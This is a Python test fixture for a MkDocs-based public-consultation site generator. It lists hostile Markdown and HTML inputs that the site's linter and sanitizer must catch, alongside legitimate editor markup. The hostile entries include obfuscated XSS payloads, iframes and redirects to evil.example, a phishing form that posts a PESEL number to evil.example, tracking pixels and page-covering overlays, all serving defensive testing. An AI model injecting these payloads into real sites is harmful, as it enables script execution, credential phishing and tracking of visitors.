"""Markdown a hostile pull request might put into a consultation's text, with what `consult check` says.

Each entry: a name, the Markdown, and the message code the check must report for it. The
spellings vary the way attackers vary them: case, entities, line breaks inside tags,
attr_list, reference links, missing quotes and spaces.
"""

from __future__ import annotations

import os
from pathlib import Path
from unittest import mock

from generator.source import check

from .bad_input_cases import INDEX, SLUG, YML, yml
from .conftest import TODAY_EPOCH
from .sitefiles import make_site

PAGE = f"konsultacje/{SLUG}/"

HOSTILE: list[tuple[str, str, str]] = [
    ("script", "<script>alert('script')</script>", "html_script"),
    ("script mixed case", "<ScRiPt >alert('case')</sCrIpT>", "html_script"),
    ("script split over lines", "<script\n>alert('lines')</script\n>", "html_script"),
    ("img onerror", "<img src=x onerror=\"alert('img')\">", "html_handler"),
    ("img onerror with slashes", "<div><img/src=\"x\"/onerror=alert('slash')></div>", "html_handler"),
    ("svg onload", "<div><svg/onload=alert('svg')></div>", "html_tag"),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>", "html_embed"),
    ("iframe elsewhere", '<iframe src="https://evil.example/"></iframe>', "html_embed"),
    ("object", '<object data="https://evil.example/x.swf"></object>', "html_embed"),
    ("embed", '<embed src="https://evil.example/x.swf">', "html_embed"),
    ("meta refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example/">', "html_page_tag"),
    ("base", '<base href="https://evil.example/">', "html_page_tag"),
    ("stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "html_page_tag"),
    ("style element", "<style>body { display: none }</style>", "html_page_tag"),
    ("form asking for PESEL", '<form action="https://evil.example/zbierz" method="post">\n'
     '<label>PESEL <input name="pesel"></label>\n<button>Wyślij</button>\n</form>', "html_form"),
    ("button formaction", '<button formaction="https://evil.example/">Zgłoś uwagę</button>', "html_form"),
    ("javascript link", "[kliknij](javascript:alert('link'))", "html_url"),
    ("javascript link, entity", '<a href="jav&#x61;script:alert(\'entity\')">kliknij</a>', "html_url"),
    ("javascript link, tab", '<a href="java&#9;script:alert(\'tab\')">kliknij</a>', "html_url"),
    ("javascript link, leading space", '<a href="  JaVaScRiPt:alert(\'space\')">kliknij</a>', "html_url"),
    ("javascript reference link", "[kliknij][zly]\n\n[zly]: javascript:alert('ref')", "html_url"),
    ("data URL", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">otwórz</a>', "html_url"),
    ("vbscript", '<a href="vbscript:msgbox(1)">otwórz</a>', "html_url"),
    ("attr_list handler", "Akapit do kliknięcia.\n{: onclick=\"alert('attr')\" }", "html_handler"),
    ("attr_list style overlay", "Komunikat urzędowy.\n{: style=\"position:fixed;inset:0;z-index:9\" }", "html_style"),
    ("style overlay", '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%;'
     ' background: white">Strona przeniesiona</div>', "html_style"),
    ("theme class", '<div class="md-dialog md-dialog--active">Sesja wygasła</div>', "html_class"),
    ("tracking image", "![](https://tracker.example/pixel.png)", "html_image_external"),
    ("details ontoggle", "<details open ontoggle=alert('toggle')><summary>Więcej</summary>x</details>", "html_handler"),
    ("math link", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
     "html_tag"),
    ("template", "<template><img src=x onerror=alert('tpl')></template>", "html_script"),
    ("srcset", '<img src="files/plakat.png" srcset="https://tracker.example/p.png 1x" alt="Plakat">',
     "html_attribute"),
]

# What editors legitimately write: the check says nothing and the sanitizer changes nothing.
LEGITIMATE = [
    "## Harmonogram\n\n1. Zbieranie uwag\n2. Raport\n\n**Ważne:** termin to *26 września*.",
    "| Etap | Termin |\n|:-----|-------:|\n| uwagi | 26.09 |",
    "Zobacz [projekt](files/projekt.pdf), [stronę MOPS](https://mops.krakow.pl/) albo napisz na "
    "[dm@mops.krakow.pl](mailto:dm@mops.krakow.pl) lub zadzwoń: [12 616 54 20](tel:+48126165420).",
    '<abbr title="Miejski Ośrodek Pomocy Społecznej">MOPS</abbr> zaprasza.',
    "<details><summary>Podstawa prawna</summary>\n\nUstawa o pomocy społecznej.\n\n</details>",
    "![Plakat konsultacji](files/plakat.png)",
    "Ważny akapit.\n{: .cx-lead #wazne lang=pl }",
]


def hostile_files() -> dict[str, str]:
    """The whole corpus in one consultation's text, an announcement, `audience` and a page of content/."""
    body = "Zapraszamy do konsultacji.\n\n" + "\n\n".join(
        f"Przykład {number}.\n\n{text}" for number, (_, text, _) in enumerate(HOSTILE, 1)
    ) + "\n\nKoniec ogłoszenia.\n"
    return {
        INDEX: body,
        f"campaigns/{SLUG}/announcements/2025-09-02-zmiana.md":
            "---\ntitle: Zmiana\ndate: 2025-09-02\n---\n\nNowy termin.\n\n<iframe src=\"https://evil.example/\"></iframe>\n",
        YML: yml(append="audience: 'Organizacje <img src=\"x.png\" onerror=\"alert(1)\">'\n"),
        "content/o-konsultacjach.md": "# O konsultacjach\n\nTekst strony.\n\n<script>alert('content')</script>\n",
    }


def build_unchecked(folder: Path) -> Path:
    """Build the corpus' site into folder/site with `consult check`'s HTML rules switched off,
    so that only the sanitizer stands between the corpus and the pages."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    source = make_site(folder / "src", hostile_files())
    site = folder / "site"
    env = {"SOURCE_DATE_EPOCH": TODAY_EPOCH, "NO_MKDOCS_2_WARNING": "1", "CONSULTATIONS_JOBS": "1"}
    with mock.patch.dict(os.environ, env), \
            mock.patch.object(check, "editor_text_problems", lambda *args: []), \
            mock.patch.object(check, "docs_problems", lambda *args: []):
        build(load_config(str(source / "mkdocs.yml"), site_dir=str(site)))
    return site
